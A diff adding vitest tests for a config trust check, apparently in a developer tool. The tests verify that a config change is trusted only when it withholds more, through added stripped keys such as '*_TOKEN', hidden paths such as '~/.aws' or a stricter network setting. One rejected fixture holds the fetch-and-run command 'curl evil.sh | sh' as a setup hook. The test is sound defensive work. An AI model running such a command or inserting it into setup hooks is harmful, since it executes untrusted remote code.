@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { commandEntries } from '../../../../src/host/trust/command-digest';
-import { withTrustedWithholding } from '../../../../src/host/trust/trusted-withholding';
+import { commandDigest, commandEntries } from '../../../../src/host/trust/command-digest';
+import { onlyWithholdsMore, withTrustedWithholding } from '../../../../src/host/trust/trusted-withholding';
 import type { GroveConfig } from '../../../../src/shared/config';
 
 const trusted: GroveConfig = {
@@ -31,5 +31,31 @@ describe('what the last trust withheld', () => {
     const plain: GroveConfig = { setup: { postCreate: ['make'] } };
     expect(withTrustedWithholding(plain, [])).toEqual(plain);
     expect(withTrustedWithholding({}, commandEntries({ setup: { postCreate: ['make'] } }))).toEqual({});
+  });
+});
+
+describe('a change that only withholds more', () => {
+  const trustedEntries = commandEntries(trusted);
+  const trustedDigest = commandDigest(trustedEntries);
+  const passes = (c: GroveConfig) => onlyWithholdsMore(commandEntries(c), trustedEntries, trustedDigest);
+  const lanes = (more: NonNullable<GroveConfig['lanes']>): GroveConfig => ({ ...trusted, lanes: { ...trusted.lanes, ...more } });
+  const strip = (stripKeys: string[]): GroveConfig => ({ ...trusted, setup: { ...trusted.setup, stripKeys } });
+
+  it('is taken as trusted: more keys or hidden paths, a stricter network, the same again', () => {
+    expect(passes(trusted)).toBe(true);
+    expect(passes(strip(['*_TOKEN', '*_SECRET']))).toBe(true);
+    expect(passes(lanes({ hidden: ['secrets', '~/.aws'] }))).toBe(true);
+    expect(passes(lanes({ network: 'none' }))).toBe(true);
+  });
+
+  it('is not, where it withholds less or changes anything else besides', () => {
+    expect(passes(strip([]))).toBe(false);
+    expect(passes(strip(['*_TOKEN']))).toBe(false);
+    expect(passes(lanes({ keyless: false }))).toBe(false);
+    expect(passes(lanes({ hidden: [] }))).toBe(false);
+    expect(passes(lanes({ network: 'open' }))).toBe(false);
+    expect(passes({ ...strip(['*_TOKEN', '*_SECRET']), setup: { stripKeys: ['*_TOKEN', '*_SECRET'], postCreate: ['npm ci', 'curl evil.sh | sh'] } })).toBe(false);
+    expect(passes({ ...lanes({ network: 'none' }), merge: { gate: 'true' } })).toBe(false);
+    expect(onlyWithholdsMore(commandEntries(trusted), trustedEntries, null)).toBe(false);
   });
 });
